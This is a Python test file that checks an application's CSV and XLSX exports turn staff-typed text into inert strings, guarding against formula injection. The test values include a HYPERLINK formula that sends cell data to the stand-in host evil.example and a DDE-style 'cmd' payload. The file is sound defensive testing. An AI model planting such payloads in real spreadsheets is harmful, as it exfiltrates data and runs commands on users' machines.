"""Text typed by staff cannot become a formula, nor break the file, in the CSV and XLSX
exports (mass.spreadsheet.safe_cell; issue 13, part 7)."""

import csv
import datetime
import io

import pytest
from openpyxl import load_workbook

from mass.models import Site
from mass.spreadsheet import safe_cell
from tests.factories import EpisodeFactory, SiteFactory, VisitFactory

D = datetime.date
HOSTILE_SITE = '=HYPERLINK("http://evil.example/?"&A1,"x")\x07\x1b'


def test_xlsx_site_named_like_a_formula_is_text(coordinator_client, history):
    SiteFactory(name=HOSTILE_SITE, kind=Site.Kind.SHELTER)
    VisitFactory(patient=history.G, date=D(2025, 4, 1),
                 site=Site.objects.get(name=HOSTILE_SITE))

    response = coordinator_client.get("/reporting/file-active/2025/?format=xlsx",
                                      HTTP_ACCEPT_LANGUAGE="en")

    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).worksheets[1]
    cells = [row[2] for row in sheet.iter_rows() if row[0].value == "site"]
    hostile = [cell for cell in cells if "HYPERLINK" in str(cell.value)]
    assert len(hostile) == 1
    assert hostile[0].data_type == "s"  # a string cell, not "f" (formula)
    assert hostile[0].value == "'" + '=HYPERLINK("http://evil.example/?"&A1,"x")'


@pytest.mark.parametrize("centre_id", ['=HYPERLINK("x")\x07', "+1+cmd|' /C calc'!A0",
                                       "@SUM(1)", "\t=1", "-2+3"])
def test_csv_text_starting_a_formula_is_prefixed(settings, coordinator_client, centre_id):
    settings.TDI_CENTRE_ID = centre_id
    EpisodeFactory(opened_on=D(2025, 4, 1))

    response = coordinator_client.get("/reporting/tdi/year/2025/export/")

    rows = list(csv.DictReader(io.StringIO(response.content.decode()), delimiter=";"))
    assert [row["centre_id"] for row in rows] == ["'" + centre_id.replace("\x07", "")]
    assert "\x07" not in response.content.decode()


def test_csv_ordinary_values_and_numbers_unchanged():
    assert safe_cell("Abri de nuit") == "Abri de nuit"
    assert safe_cell("a-b=c") == "a-b=c"
    assert safe_cell(-3) == -3 and safe_cell(None) is None
    assert safe_cell("ok\x00\x1f\x7f") == "ok"
    assert safe_cell("line\nbreak") == "line\nbreak"
